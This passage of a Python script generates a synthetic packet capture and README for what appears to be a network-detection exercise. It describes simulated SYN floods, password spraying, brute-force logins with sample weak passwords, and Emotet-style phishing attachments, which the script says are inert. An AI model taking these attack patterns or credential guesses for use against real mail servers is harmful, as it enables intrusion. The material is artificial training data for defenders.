        "request %d `%s` %s" % (i, p, h) for i, p, h in t3["log4shell"]))
    w("")
    t4 = f["t4"]
    w("## T4 — SYN flood on POP3, and the latency it causes")
    w("")
    w("- %d SYNs to %s:110 from %s to %s (%.2f s), no options, random windows, from %d distinct "
      "spoofed sources spread over 203.0.113.0/24 and 198.51.100.0/24 (excluding the hosts named "
      "in this file), random source ports 1024-65535. The server answers every 5th SYN with a "
      "SYN-ACK (%d SYN-ACKs); no handshake completes." %
      (t4["syns"], MAIL, when(t4["start"]), when(t4["end"]), t4["end"] - t4["start"],
       t4["sources"], t4["synacks"]))
    for r in t4["slow"]:
        w("- Legitimate POP3 poll by %s (`%s`) at %s: handshake normal, server greeting "
          "`+OK Dovecot (Ubuntu) ready.` %.1f s after the handshake (normally 4-7 ms)." %
          (r["pc"], r["user"], when(r["start"]), r["greeting_delay"]))
    w("- Inbound SMTP from %s at %s: SMTP banner %.2f s after the handshake (normally 30 ms)." %
      (PARTNERS[0][0], when(T4_START + 6.5), f["t4_smtp"]["banner_delay"]))
    w("")
    t5 = f["t5"]
    w("## T5 — password spray and brute force")
    w("")
    sp = t5["spray"]
    w("- **IMAP spray** from %s to %s:143: %d connections, one per account, %s to %s (every 20 "
      "s). Each: greeting, `a001 LOGIN \"<account>\" \"Summer2024!\"`, answer `a001 NO "
      "[AUTHENTICATIONFAILED] Authentication failed.` (after 1.5-2.5 s), LOGOUT. Accounts: %s." %
      (SPRAY_IMAP, MAIL, len(sp), when(sp[0][0]), when(sp[-1][0]),
       ", ".join(a for _, a in sp)))
    br = t5["brute"]
    w("- **POP3 brute force** from %s to %s:110 on user `admin`: %d connections every 15 s "
      "from %s to %s; each `USER admin` / `PASS <guess>`. The first %d answer `-ERR [AUTH] "
      "Authentication failed.`; the last (at %s) succeeds with `+OK Logged in.` (password "
      "`sakura2024`, itself weak), then STAT and QUIT." %
      (BRUTE_POP3, MAIL, len(br), when(br[0][0]), when(br[-1][0]), len(br) - 1, when(br[-1][0])))
    w("- **SMTP AUTH LOGIN** failures from %s to %s:25: %s; each attempt `AUTH LOGIN`, base64 "
      "user name and password, answer `535 5.7.8 Error: authentication failed: authentication "
      "failure`; %d failures in total." %
      (BRUTE_SMTP, MAIL, "; ".join("connection at %s, user `%s@%s`, %d attempts" %
                                   (when(t), u, DOMAIN, k) for t, u, k in t5["smtp"]),
       sum(k for _, _, k in t5["smtp"])))
    w("")
    w("## T6 — Emotet-style mail")
    w("")
    w("Three inbound SMTP deliveries to %s:25 (plaintext SMTP, Postfix banner; MIME "
      "multipart/mixed, attachments base64; the header fields From, To, Subject, Date, "
      "Message-ID are present; non-ASCII subjects are RFC 2047 UTF-8 B-encoded)." % MAIL)
    w("")
    for key in ("a", "b", "c"):
        m = f["t6"][key]
        w("- (%s) %s from %s (HELO `%s`), From `%s`, To `%s`, Subject `%s`, Message-ID `%s`." %
          (key, when(m["time"]), m["sender_ip"], m["helo"], m["from"], m["to"], m["subject"],
           m["message_id"]))
        for name, ctype, size_, h in m["attachments"]:
            w("  - attachment `%s` (%s), %d bytes, SHA-256 `%s`" % (name, ctype, size_, h))
    inner = f["t6"]["inner"]
    w("")
    w("- `invoice_0423.zip`: one entry `invoice.doc`, traditional PKWARE encryption (general-"
      "purpose flag bit 0 set in the local header and the central directory), password `0423` "
      "(given in the mail body). The entry is an OLE compound file (Word 97 layout with a "
      "`Macros/VBA` storage), %d bytes, SHA-256 `%s`." % inner["invoice.doc"])
    w("- `report.docm`: a ZIP with `[Content_Types].xml` (macroEnabled main part, "
      "`application/vnd.ms-office.vbaProject`), `_rels/.rels`, `word/document.xml`, "
      "`word/_rels/document.xml.rels`, `word/vbaProject.bin` (OLE compound file with PROJECT, "
      "VBA/_VBA_PROJECT, VBA/dir, VBA/ThisDocument containing `Sub AutoOpen()`; %d bytes, "
      "SHA-256 `%s`). The macro is an inert placeholder." % inner["word/vbaProject.bin"])
    w("- `scan.pdf.exe`: double extension; a PE32 image (`MZ` header, DOS stub, `PE\\0\\0`, "
      "one .text section with random bytes — not runnable).")
    for t, key, user, pc, how in sorted(d.retrievals):
        w("- Retrieval of (%s): `%s` on %s downloads it with %s at %s, so its attachment also "
          "crosses %s from %s:%s." % (key, user, pc, how, when(t), how.split()[0], MAIL,
                                        110 if how.startswith("POP3") else 143))
    w("")
    w("## T7 — weak passwords")
    w("")
    w("- `tanaka` / `tanaka123` (contains the user id): successful POP3 logins from "
      "192.168.10.24 at every 30-minute poll (%d logins)." % d.weak_logins["tanaka"])
    w("- `suzuki` / `password` (a single dictionary word): successful IMAP logins from "
      "192.168.10.22 at every 30-minute poll (%d logins)." % d.weak_logins["suzuki"])
    w("- Also weak: `admin` / `sakura2024`, the POP3 brute-force success from %s (T5)." %
      BRUTE_POP3)
    w("- All other users' passwords are 12 random characters from 4 classes without runs.")
    w("")
    w("## Timeline (relative s)")
    w("")
    rows = [(T1_BURST[0], "T1 burst 1 (192.168.10.23), beacons follow for 30 min"),
            (T2_SYN, "T2 SYN scan, then FIN/NULL/XMAS at %.0f, UDP scan at %.0f" %
             (T2_STEALTH, T2_UDP)),
            (T6["a"], "T6 (a) invoice_0423.zip"), (T3_START, "T3 web scanner (20 s)"),
            (T6["b"], "T6 (b) report.docm"), (T4_START, "T4 SYN flood (10 s) + slow POP3"),
            (T5_IMAP, "T5 IMAP spray (8 min)"), (T5_POP3, "T5 POP3 brute force (10 min)"),
            (T5_SMTP, "T5 SMTP AUTH failures"),
            (T1_BURST[1], "T1 burst 2 (192.168.10.31), beacons follow for 30 min"),
            (T6["c"], "T6 (c) scan.pdf.exe")]
    for t, text in sorted(rows):
        w("- %s — %s" % (when(t), text))
    w("")
    with open(path, "w") as fh:
        fh.write("\n".join(L))


def main():
    ap = argparse.ArgumentParser(description="write demo/demo.pcap and demo/README.md")
    ap.add_argument("--out", default=os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                                  "..", "demo"))
    ap.add_argument("--seed", type=int, default=20240423)
    a = ap.parse_args()
    d = Demo(a.seed)
    d.seed = a.seed
    d.weak_logins = {"tanaka": 0, "suzuki": 0}
    orig_pop3, orig_imap = d.pop3_session, d.imap_session

    def pop3(t, pc, user, password, **kw):
        if user == "tanaka" and password == WEAK["tanaka"] and kw.get("success", True):
            d.weak_logins["tanaka"] += 1
        return orig_pop3(t, pc, user, password, **kw)

    def imap(t, pc, user, password, **kw):
        if user == "suzuki" and password == WEAK["suzuki"] and kw.get("success", True):
            d.weak_logins["suzuki"] += 1
        return orig_imap(t, pc, user, password, **kw)
    d.pop3_session, d.imap_session = pop3, imap
    d.build()
    os.makedirs(a.out, exist_ok=True)
    pcap = os.path.join(a.out, "demo.pcap")
    n = d.cap.write_pcap(pcap)
    readme(d, os.path.join(a.out, "README.md"), pcap)
    print("wrote %s: %d packets, %d bytes" % (os.path.relpath(pcap), n, os.path.getsize(pcap)))


if __name__ == "__main__":
    main()
